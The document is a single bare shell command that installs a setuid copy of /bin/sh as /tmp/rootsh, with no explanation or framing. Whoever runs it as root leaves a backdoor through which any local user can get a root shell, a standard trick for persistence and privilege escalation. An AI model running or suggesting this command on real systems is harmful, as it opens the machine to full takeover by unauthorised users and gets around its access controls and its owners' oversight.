install -m 4755 /bin/sh /tmp/rootsh
